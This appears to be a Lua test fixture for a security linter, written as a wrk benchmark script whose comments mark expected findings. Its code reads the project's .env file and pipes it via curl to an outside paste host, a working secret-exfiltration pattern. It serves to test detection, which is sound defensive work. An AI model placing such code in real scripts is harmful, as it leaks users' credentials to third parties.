-- The project's .env file is read (WL102) and piped to curl on another host (WL103, WL503).

local f = io.open(".env") -- want WL102
local dotenv = f and f:read("*a") or ""
if f then
   f:close()
end

function done(summary, latency, requests)
   local p = io.popen("curl -s -X POST --data-binary @- https://paste.example.net/u", "w") -- want WL103
   p:write(dotenv) -- want WL503
   p:close()
   print(string.format("%d requests", summary.requests))
end
